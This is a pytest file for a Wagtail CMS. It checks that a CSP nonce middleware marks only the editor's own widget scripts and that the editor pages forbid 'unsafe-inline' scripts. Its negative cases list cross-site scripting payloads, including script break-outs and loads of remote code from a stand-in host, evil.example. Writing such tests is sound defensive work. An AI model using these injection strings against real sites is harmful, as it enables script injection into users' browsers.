"""Which scripts in the editor's pages are allowed to run."""

import json

import pytest
from wagtail.admin.widgets import AdminDateInput, AdminDateTimeInput, AdminPageChooser, AdminTimeInput
from wagtail.admin.widgets.workflows import AdminTaskChooser
from wagtail.documents.widgets import AdminDocumentChooser
from wagtail.images.widgets import AdminImageChooser
from wagtail.snippets.widgets import AdminSnippetChooser

from cms.middleware import with_nonce
from cms.models import Topic
from tests.factories.accounts import AdministratorFactory
from tests.factories.cms import LessonPageFactory, ModulePageFactory


def marked(html):
    return with_nonce(html.encode(), lambda: "abc").decode()


WIDGETS = [
    AdminDateInput(),
    AdminTimeInput(),
    AdminDateTimeInput(),
    AdminPageChooser(),
    AdminImageChooser(),
    AdminDocumentChooser(),
    AdminSnippetChooser(Topic),
    AdminTaskChooser(),
]


@pytest.mark.parametrize("widget", WIDGETS, ids=lambda widget: type(widget).__name__)
def test_the_editors_own_widgets_may_start(db, widget):
    html = widget.render("field", None, attrs={"id": "id_field-1"})
    assert html.count("<script>") == 1
    assert '<script nonce="abc">' in marked(html)
    assert "<script>" not in marked(html)


PANEL = '\n(function() {{\n  var panel = new InlinePanel(JSON.parse("{}"));\n}})();\n'


def test_panels_may_start():
    options = json.dumps({"emptyChildFormPrefix": "x-__prefix__"}).replace('"', "\\u0022")
    assert 'nonce="abc"' in marked(f"<script>{PANEL.format(options)}</script>")


@pytest.mark.parametrize(
    "script",
    [
        "alert(1)",
        'initDateChooser("x", {}); alert(1)',
        'initDateChooser("x", {});alert(1);({});',
        'initDateChooser("x", {"a": alert(1)});',
        'new PageChooser("x", {"a": 1}); fetch("/my/");',
        'new PageChooser("x", (() => {alert(1)})());',
        'new Function("x")();',
        "new FunctionChooser(alert(1), {});",
        'new PageChooser("x" + alert(1), {});',
        PANEL.format('{}")); alert(1); JSON.parse(("{}'),
        'new InlinePanel(JSON.parse("{}"))',
        "",
        "import('https://evil.example/x.js')",
        'initDateChooser("</script><script>alert(1)", {});',
    ],
)
def test_anything_else_may_not(script):
    assert "nonce" not in marked(f"<script>{script}</script>")


def test_a_script_that_carries_anything_in_its_tag_is_left_as_it_is():
    html = '<script src="https://evil.example/x.js"></script><SCRIPT>alert(1)</SCRIPT><script type="module">1</script>'
    assert marked(html) == html


def test_the_editor_is_served_with_a_nonce_and_without_unsafe_scripts(client, shelves):
    lesson = LessonPageFactory(parent=ModulePageFactory(parent=shelves.course()))
    client.force_login(AdministratorFactory())
    answer = client.get(f"/cms/pages/{lesson.pk}/edit/")
    policy = answer["Content-Security-Policy"]
    scripts = next(part for part in policy.split(";") if part.strip().startswith("script-src"))
    assert "'unsafe-inline'" not in scripts
    assert "'nonce-" in scripts
    assert "style-src 'self' 'unsafe-inline'" in policy
    assert b"<script>" not in answer.content


def test_other_pages_keep_the_strict_rule_for_styles(client, shelves):
    assert "'unsafe-inline'" not in client.get("/")["Content-Security-Policy"]
